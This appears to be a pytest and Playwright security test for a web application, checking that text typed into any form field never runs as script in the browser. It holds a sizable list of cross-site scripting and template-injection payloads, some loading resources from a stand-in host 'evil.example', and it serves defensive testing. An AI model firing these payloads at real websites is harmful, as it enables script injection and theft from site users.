"""H6: whatever is typed into any field, no browser runs it."""

from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from html import escape
from itertools import count, product
from pathlib import PurePath
from typing import Any, get_args
from urllib.parse import quote, urlsplit

import pytest
from fastapi.routing import APIRoute
from playwright.sync_api import Browser, Page
from pydantic import BaseModel
from pydantic.fields import FieldInfo

from runtime.services import SERVICES
from shared.auth import Actor
from tests import chromium
from tests.access.doors import DOORS
from tests.access.knocking import Knock
from tests.architecture.test_permissions import routes
from tests.live import Live
from tests.portal.factories import lead_under_way, policy_in_force
from tests.promises import Promise
from tests.world import PASSWORD, WORLD

RUN = "alert(1)"
EVIL = "//evil.example/x"
TAGS = ("img src=x", "svg", "body", "video src=x", "input autofocus", "details open", "marquee")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onanimationend")
BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>")
HANDWRITTEN = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}></script>",
    f"<script\x0csrc={EVIL}>",
    f"<<script>{RUN}//<</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<a href='java&#x09;script:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button>x",
    f"<object data=javascript:{RUN}>",
    f"<embed src={EVIL}>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}';</style>",
    f"<div style=background:url({EVIL})>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<img src={EVIL}.png>",
    f"<div hx-get={EVIL} hx-trigger=load>",
    f"<div hx-on:load={RUN} data-hx-on:load={RUN}>",
    f"<div hx-get=/ hx-trigger='load[{RUN}]'>",
    f"javascript:{RUN}",
    "{{ 7*7 }}{{ config }}{% debug %}",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    quote(f"<script>{RUN}</script>"),
    escape(escape(f"<img src=x onerror={RUN}>")),
    f"\u003cscript\u003e{RUN}\u003c/script\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"`;{RUN};//",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'"}}]}};{RUN};//',
    f"\u2028{RUN}//",
)
MADE = tuple(
    f"{out}<{tag} {event}={RUN}>" for out, tag, event in product(BREAKS[::3], TAGS, EVENTS)
)
PAYLOADS = (*HANDWRITTEN, *MADE)[:240]
MOST_PAGES = 28
START = ("/", "/audits", "/findings", "/actions", "/indicators", "/risks", "/policy", "/inbox")
FORMS = ("/audits/new", "/actions/new", "/risks/new", "/account")


def people_of_the_house() -> list[Actor]:
    return [WORLD.greta, WORLD.hugo, WORLD.alice, WORLD.diane, WORLD.paul]


def free_texts(model: type[BaseModel]) -> dict[str, int]:
    """The fields that take any text, and how much of it."""
    return {
        name: longest(about)
        for name, about in model.model_fields.items()
        if str in (about.annotation, *get_args(about.annotation)) and not has_pattern(about)
    }


def longest(about: FieldInfo) -> int:
    found = [getattr(mark, "max_length", None) for mark in about.metadata]
    return next((length for length in found if length), 200)


def has_pattern(about: FieldInfo) -> bool:
    return any(getattr(mark, "pattern", None) for mark in about.metadata)


@dataclass
class Pen:
    """Writes payloads, each in its turn, as many into a field as it takes."""

    used: set[str] = field(default_factory=set)
    turn: "count[int]" = field(default_factory=count)

    def write(self, room: int) -> str:
        text = ""
        while True:
            payload = PAYLOADS[next(self.turn) % len(PAYLOADS)]
            if len(text) + len(payload) + 1 > room:
                return text or payload[:room]
            self.used.add(payload)
            text += payload + " "


def model_of(route: APIRoute) -> type[BaseModel] | None:
    body: Any = route.body_field
    kind = body.field_info.annotation if body else None
    return kind if isinstance(kind, type) and issubclass(kind, BaseModel) else None


def writing() -> Iterator[tuple[str, type[BaseModel], dict[str, int]]]:
    """The doors that take free text, by whom it is typed."""
    for service in SERVICES:
        for route in routes(service):
            model = model_of(route)
            door = f"{service} {min(route.methods or ())} {route.path}"
            if model is not None and door in DOORS and free_texts(model):
                yield door, model, free_texts(model)


def type_everywhere(live: Live, pen: Pen) -> tuple[int, int]:
    """Send every form with payloads in all its texts. How many were tried, and taken."""
    tried = taken = 0
    for door, _, texts in writing():
        asked = DOORS[door]()
        typed = {
            name: pen.write(room) for name, room in texts.items() if name in (asked.body or {})
        }
        filled = replace(asked, body={**(asked.body or {}), **typed})
        people = (asked.by or WORLD.greta, *people_of_the_house())
        taken += any(send(live, door, filled, by) for by in people)
        tried += 1
    return tried, taken


def send(live: Live, door: str, asked: Knock, by: Actor) -> bool:
    service, method, _ = door.split()
    with live.as_(by) as client:
        return client.request(method, f"/{service}{asked.path}", json=asked.body).is_success


@dataclass
class Watch:
    """What a browser did that it should not."""

    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def over(self, page: Page, origin: str) -> None:
        def dialog(opened: Any) -> None:  # noqa: ANN401  Playwright's
            self.dialogs.append(f"{page.url} {opened.message}")
            opened.dismiss()

        def requested(request: Any) -> None:  # noqa: ANN401
            address = urlsplit(request.url)
            if f"{address.scheme}://{address.netloc}" != origin and address.scheme != "data":
                self.foreign.append(f"{page.url} {request.url}")

        def said(message: Any) -> None:  # noqa: ANN401
            if "Content Security Policy" in message.text:
                self.violations.append(f"{page.url} {message.text}")

        page.on("dialog", dialog)
        page.on("request", requested)
        page.on("console", said)


LINKS = "all => all.map(a => a.getAttribute('href'))"


def visit(page: Page, url: str) -> set[str]:
    """Every page that links lead to, as far as the time allows, each until it is quiet."""
    waiting, known = [*START, *FORMS], {*START, *FORMS}
    seen: set[str] = set()
    while waiting and len(seen) < MOST_PAGES:
        address = waiting.pop(0)
        page.goto(url + address)
        page.wait_for_timeout(50)
        seen.add(address)
        shapes = {shape(known_one) for known_one in known}
        for link in page.eval_on_selector_all(
            "a[href^='/']", "all => all.map(a => a.getAttribute('href'))"
        ):
            if (
                shape(link) not in shapes
                and "sign-out" not in link
                and not link.startswith("/static")
                and not PurePath(urlsplit(link).path).suffix
            ):
                known.add(link)
                shapes.add(shape(link))
                waiting.insert(0, link)
    return seen


def shape(address: str) -> str:
    """Three of a kind are enough: a page shows what the next one shows."""
    path = urlsplit(address).path
    parts = path.split("/")
    return "/".join(parts[:2]) + ("/" + parts[2][-1] if len(parts) > 2 and parts[2] else "")


@pytest.mark.security
def test_nothing_that_was_typed_runs(live: Live, browser: Browser, promise: Promise) -> None:
    policy_in_force()
    lead_under_way()
    pen, watch = Pen(), Watch()
    tried, taken = type_everywhere(live, pen)
    pages = 0
    for name in ("greta", "diane"):
        context = browser.new_context(locale="fr-FR")
        page = context.new_page()
        chromium.sign_in(page, live.url, f"{name}@example.org", PASSWORD)
        watch.over(page, live.url)
        pages += len(visit(page, live.url))
        context.close()

    promise(
        "H6", "scripts typed into texts", f"{len(pen.used)} in {taken} of {tried} forms", "200+"
    )
    promise("H6", "pages visited in Chromium", pages, "every kind")
    promise(
        "H6",
        "dialogs, violations, foreign requests",
        [len(found) for found in vars(watch).values()],
        [0, 0, 0],
    )
    assert vars(watch) == vars(Watch())
    assert len(pen.used) >= 200
    assert taken > 20


@pytest.mark.security
def test_the_same_texts_run_where_nobody_escapes_them(browser: Browser, promise: Promise) -> None:
    """The control, in a page without our templates and without the policy."""
    context = browser.new_context()
    page, watch = context.new_page(), Watch()
    page.route(
        "**/*",
        lambda route: route.fulfill(body="") if "evil" in route.request.url else route.continue_(),
    )
    watch.over(page, "null://")
    page.set_content("<p>".join(MADE))
    page.wait_for_timeout(1_000)
    context.close()
    promise("H6", "control, shown raw: dialogs", len(watch.dialogs), "some")
    assert len(watch.dialogs) > 5
